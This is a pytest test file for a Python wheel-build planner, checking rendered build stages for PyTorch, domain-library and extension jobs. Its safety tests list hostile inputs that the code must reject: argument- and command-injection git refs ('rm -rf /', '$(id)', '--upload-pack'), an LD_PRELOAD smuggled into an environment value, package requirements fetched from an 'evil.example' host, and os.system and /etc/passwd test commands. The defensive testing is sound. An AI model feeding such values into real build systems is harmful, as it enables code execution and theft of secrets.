"""render_stages over real plans: golden listings plus the facts that matter, asserted one by one."""

from __future__ import annotations

import copy
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.buildspecs.jobs import GOLDEN, golden_files, jobs
from wfbuild import safety
from wfbuild.stages.stages import Stage, render_stages


def _stage(job: dict[str, Any], name: str) -> Stage:
    found = [s for s in render_stages(job) if s.name == name]
    assert len(found) == 1, f"{name} not in {[s.name for s in render_stages(job)]}"
    return found[0]


def _args(stage: Stage, flag: str) -> list[str]:
    return [stage.argv[i + 1] for i, a in enumerate(stage.argv) if a == flag]


def test_golden_listings_match() -> None:
    expected = golden_files()
    on_disk = {p for p in GOLDEN.glob("*.txt")}
    assert set(expected) == on_disk, "regenerate: .venv/bin/python -m tests.buildspecs.jobs"
    for path, text in expected.items():
        assert path.read_text(encoding="utf-8") == text, f"{path.name} differs; regenerate if intended"


@pytest.mark.parametrize("name", ["torch-2.5.1", "torch-1.13.1", "nightly"])
def test_pytorch_order(name: str) -> None:
    for job in jobs(name).values():
        names = [s.name for s in render_stages(job)]
        pins = job["packages"]
        assert names[: len(pins)] == [f"checkout-{p['name']}" for p in pins]
        torch_builds = [n for n in names if n.startswith("build-torch-")]
        assert torch_builds == [f"build-torch-{py}" for py in pins[0]["python"]], "one tree, Pythons in sequence"
        last_torch = max(names.index(n) for n in torch_builds)
        libs = [n for n in names if n.startswith("build-") and not n.startswith("build-torch-")]
        assert libs and all(names.index(n) > last_torch for n in libs)
        first_repair = min(names.index(n) for n in names if n.startswith("repair-"))
        assert all(names.index(n) < first_repair for n in libs)
        assert names[-1] == "manifest"
        for stage in render_stages(job):
            if stage.package not in (None, "torch"):
                assert stage.fatal is False, f"{stage.name}: a domain library must not lose the torch wheel"


def test_domain_libraries_build_against_this_jobs_torch() -> None:
    job = jobs("torch-2.5.1")["torch2.5.1-cpu-x86_64"]
    stage = _stage(job, "build-torchvision-3.12")
    assert stage.env["WF_TORCH_WHEEL_DIR"] == "/work/dist/raw/torch/cp312"
    assert stage.env["WF_ENV_DIR"] == _stage(job, "build-torch-3.12").env["WF_ENV_DIR"]
    assert stage.needs == ("build-torch-3.12", "checkout-torchvision")
    assert _args(_stage(job, "smoke-torchvision-3.12"), "--torch-wheel-dir") == ["/work/dist/wheels/torch/cp312"]


def test_fixed_versions() -> None:
    job = jobs("torch-2.5.1")["torch2.5.1-cuda12.4-x86_64"]
    assert _stage(job, "build-torch-3.11").env["PYTORCH_BUILD_VERSION"] == "2.5.1+cu124"
    assert _stage(job, "build-torchvision-3.11").env["BUILD_VERSION"] == "0.20.1+cu124"
    old = jobs("torch-1.13.1")["torch1.13.1-cpu-x86_64"]
    assert _stage(old, "build-torch-3.10").env["PYTORCH_BUILD_VERSION"] == "1.13.1+cpu"
    assert _stage(old, "build-torchaudio-3.10").env["BUILD_VERSION"] == "0.13.1+cpu"


def test_nightly_versions_are_computed_from_version_txt() -> None:
    job = jobs("nightly")["torchnightly-cuda12.6-x86_64"]
    env = _stage(job, "build-torch-3.12").env
    assert env["WF_VERSION_SCHEME"] == "nightly"
    assert (env["WF_BUILD_DATE"], env["WF_VARIANT"]) == ("20241122", "cu126")
    assert "PYTORCH_BUILD_VERSION" not in env, "nightly versions need version.txt, known after checkout"


def test_cuda_job_is_slim() -> None:
    job = jobs("torch-2.5.1")["torch2.5.1-cuda12.4-x86_64"]
    assert job["env"]["TORCH_CUDA_ARCH_LIST"] == "8.0;8.6;9.0+PTX"
    assert job["image"]["recipe"] == "x86_64-cuda"
    repair = _stage(job, "repair-torch-3.11")
    excluded = _args(repair, "--exclude")
    assert {"libcudart.so*", "libcudnn*.so*", "libnccl*.so*", "libcublas*.so*"} <= set(excluded)
    assert _args(repair, "--require") == job["requirements"] and len(job["requirements"]) >= 10
    assert "$ORIGIN/../../nvidia/cudnn/lib" in _args(repair, "--rpath")
    assert "--cuda-built" in _stage(job, "smoke-torch-3.11").argv
    cpu = jobs("torch-2.5.1")["torch2.5.1-cpu-x86_64"]
    assert not _args(_stage(cpu, "repair-torch-3.11"), "--require")
    # a CPU job bundles the CUDA libraries it finds, except the driver's (the user's, never a wheel's)
    cpu_excludes = _args(_stage(cpu, "repair-torch-3.11"), "--exclude")
    assert [p for p in cpu_excludes if "cuda" in p or "nvidia" in p] == ["libcuda.so*", "libnvidia-ml.so*"]


def test_aarch64_bundles_openblas_acl_and_uses_64k_pages() -> None:
    job = jobs("torch-2.5.1")["torch2.5.1-cpu-aarch64"]
    assert job["image"]["recipe"] == "aarch64-cpu"
    assert {"OPENBLAS_VERSION", "ACL_VERSION"} <= set(job["image"]["build_args"])
    assert job["env"]["BLAS"] == "OpenBLAS" and job["env"]["USE_MKLDNN_ACL"] == "1"
    assert "max-page-size=0x10000" in job["env"]["CMAKE_SHARED_LINKER_FLAGS"]
    repair = _stage(job, "repair-torch-3.11")
    assert {"/opt/OpenBLAS/lib", "/acl/build"} <= set(_args(repair, "--lib-path"))
    assert {"libopenblas", "libarm_compute", "libgomp"} <= set(_args(repair, "--expect-bundled"))
    assert _args(repair, "--plat") == ["manylinux_2_28_aarch64"]


def test_mpi_follows_the_request() -> None:
    with_mpi = jobs("torch-2.5.1")["torch2.5.1-cpu-x86_64"]
    assert "--mpi" in _stage(with_mpi, "smoke-torch-3.11").argv
    assert "libmpi" in _args(_stage(with_mpi, "repair-torch-3.11"), "--expect-bundled")
    without = jobs("torch-1.13.1")["torch1.13.1-cpu-x86_64"]
    assert without["env"]["USE_MPI"] == "0"
    assert "--mpi" not in _stage(without, "smoke-torch-3.10").argv


def test_extension_stages() -> None:
    job = jobs("extension")["wf-example-ops-cuda12.6-x86_64"]
    cells = ["torch2.6.0-cp311-cuda12.6-x86_64", "torch2.13.0-cp311-cuda12.6-x86_64"]
    stages = render_stages(job)
    steps = ("env", "build", "abi", "devicecode", "repair", "smoke")
    per_cell = [f"{step}-{cell}" for cell in cells for step in steps]
    assert [s.name for s in stages] == ["checkout-wf-example-ops", *per_cell, "manifest"]
    assert [s.group for s in stages] == [None, *[c for c in cells for _ in steps], None]
    cell = cells[1]
    # A CUDA cell's device code is read after its build and before anything repairs, tests or publishes it.
    check = _stage(job, f"devicecode-{cell}")
    assert check.needs == (f"build-{cell}",) and _stage(job, f"repair-{cell}").needs == (check.name,)
    assert _args(check, "--in-dir") == ["/work/dist/raw/wf-example-ops/cp311/torch2.13.0"]
    assert _args(check, "--arch-list") == [job["arch_list"]] and _args(check, "--cuda") == ["12.6"]
    assert _args(check, "--out") == [f"/work/meta/devicecode/{cell}.json"] and check.offline
    # Every cell's imports are read after its build (wfbuild.wheels.abi); nothing waits on the reading.
    reading = _stage(job, f"abi-{cell}")
    assert reading.needs == (f"build-{cell}",) and not reading.fatal and reading.offline
    assert _args(reading, "--in-dir") == ["/work/dist/raw/wf-example-ops/cp311/torch2.13.0"]
    assert _args(reading, "--torch-version") == ["2.13.0"] and _args(reading, "--src") == [
        "/work/src/wf-example-ops/ext"
    ]
    assert _args(reading, "--env-dir") == _args(_stage(job, f"env-{cell}"), "--dest")
    assert _args(reading, "--out") == [f"/work/meta/abi/{cell}.json"]
    cpu = render_stages(jobs("extension")["wf-example-ops-cpu-x86_64"])
    assert not [s.name for s in cpu if s.name.startswith("devicecode-")]  # a CPU cell has no device code to read
    assert [s.name for s in cpu if s.name.startswith("abi-")]  # but its imports are read all the same
    env_stage = _stage(job, f"env-{cell}")
    assert _args(env_stage, "--torch") == ["torch==2.13.0"]
    assert _args(env_stage, "--index-url") == ["https://download.pytorch.org/whl/cu126"]
    build = _stage(job, f"build-{cell}")
    assert build.env["WF_SRC_DIR"] == "/work/src/wf-example-ops/ext"
    assert build.env["WF_BUILD_COPY"] == f"/work/cells/{cell}"  # cells never share a build tree
    assert build.env["WF_OUT_DIR"] == "/work/dist/raw/wf-example-ops/cp311/torch2.13.0"
    repair = _stage(job, f"repair-{cell}")
    assert {"libtorch*.so*", "libc10*.so*", "libcudart.so*"} <= set(_args(repair, "--exclude"))
    assert "--slim" in repair.argv and _args(repair, "--local-label") == ["pt213cu126"]
    smoke = _stage(job, f"smoke-{cell}")
    assert _args(smoke, "--base-env") == ["/work/envs/cp311-torch2.13.0"]
    assert _args(smoke, "--work-dir") == [f"/work/smoke/{cell}"]


def test_host_paths_are_rendered_for_host_mode() -> None:
    job = jobs("torch-2.5.1")["torch2.5.1-cpu-x86_64"]
    stages = render_stages(job, work_dir="/scratch/job", bundle_dir="/opt/bundle")
    assert stages[0].argv == ["bash", "/opt/bundle/stages/checkout.sh"]
    assert all("/work/" not in " ".join(s.argv + list(s.env.values())) for s in stages)


BAD_REFS = ["--upload-pack=touch /tmp/x", "v1.0;rm -rf /", "a..b", "main\n", "$(id)", "-b", "x y", "ref@{1}"]


@pytest.mark.parametrize("ref", BAD_REFS)
def test_bad_refs_never_render(ref: str) -> None:
    job = copy.deepcopy(jobs("torch-2.5.1")["torch2.5.1-cpu-x86_64"])
    job["packages"][1]["ref"] = ref
    with pytest.raises(safety.UnsafeValue):
        render_stages(job)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("repo", "https://github.com/x/y.git --upload-pack=evil"),
        ("repo", "git@github.com:x/y.git"),
        ("repo", "https://github.com/../etc"),
        ("name", "torch;id"),
    ],
)
def test_bad_package_fields_never_render(field: str, value: str) -> None:
    job = copy.deepcopy(jobs("torch-2.5.1")["torch2.5.1-cpu-x86_64"])
    job["packages"][0][field] = value
    with pytest.raises(safety.UnsafeValue):
        render_stages(job)


def test_multiline_env_values_are_refused() -> None:
    job = copy.deepcopy(jobs("torch-2.5.1")["torch2.5.1-cpu-x86_64"])
    job["env"]["MAX_JOBS"] = "4\nLD_PRELOAD=/tmp/evil.so"
    with pytest.raises(safety.UnsafeValue):
        render_stages(job)


@given(st.text(min_size=1, max_size=40))
def test_any_accepted_ref_is_plain(ref: str) -> None:
    try:
        safety.check_ref(ref)
    except safety.UnsafeValue:
        return
    assert not ref.startswith("-") and ".." not in ref
    assert all(c.isascii() and (c.isalnum() or c in "._/-") for c in ref)


def _test_job(test: dict[str, Any]) -> dict[str, Any]:
    from tests.buildspecs.jobs import REQUESTS, TODAY
    from wheelfoundry.catalog.catalog import load_catalog
    from wheelfoundry.config import load_config
    from wheelfoundry.planning.planning import plan_request
    from wheelfoundry.request.request import parse_request

    raw = {**REQUESTS["extension"], "test": test}
    plan = plan_request(parse_request(raw), load_catalog(), load_config(), today=TODAY)
    (job,) = plan.tests
    return {"run": {"bucket": "wf-bucket", "prefix": f"runs/r1/jobs/{job.id}/"}, **job.to_dict()}


def test_a_test_job_fetches_the_source_and_runs_the_packages_own_tests_in_every_cell() -> None:
    job = _test_job({"requires": ["pytest", "scipy>=1.10"], "command": ["-m", "pytest", "-q", "{package}/tests"]})
    stages = render_stages(job)
    assert [s.name for s in stages[:2]] == ["fetch-staged", "checkout-wf-example-ops"]
    assert stages[1].needs == ("fetch-staged",)
    tests = [s for s in stages if s.name.startswith("test-")]
    assert len(tests) == 4  # torch 2.6 and 2.13, CPU and CUDA 12.6, one Python
    for stage in tests:
        assert "checkout-wf-example-ops" in stage.needs
        tail = stage.argv[stage.argv.index("--project") :]
        assert tail == [
            "--project", "/work/src/wf-example-ops", "--package", "/work/src/wf-example-ops/ext",
            "--test-require=pytest", "--test-require=scipy>=1.10",
            "--test-arg=-m", "--test-arg=pytest", "--test-arg=-q", "--test-arg={package}/tests",
        ]  # fmt: skip


def test_a_test_job_without_package_tests_fetches_no_source() -> None:
    stages = render_stages(_test_job({"command": ["-c", "pass"]}))
    assert "checkout-wf-example-ops" in [s.name for s in stages]
    job = _test_job({"command": ["-c", "pass"]})
    job["extension"]["test_command"] = []
    assert [s.name for s in render_stages(job)][:2] == ["fetch-staged", "env-" + job["extension"]["cells"][0]["id"]]


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("test_requires", ["--index-url=https://evil.example/simple"]),
        ("test_requires", ["evil @ https://evil.example/evil.whl"]),
        ("test_command", ["-c", "import os; os.system('id')"]),
        ("test_command", ["{project}/../../etc/passwd"]),
    ],
)
def test_a_package_test_field_the_schema_would_refuse_never_renders(field: str, value: list[str]) -> None:
    job = _test_job({"command": ["-c", "pass"]})
    job["extension"][field] = value
    with pytest.raises(safety.UnsafeValue):
        render_stages(job)
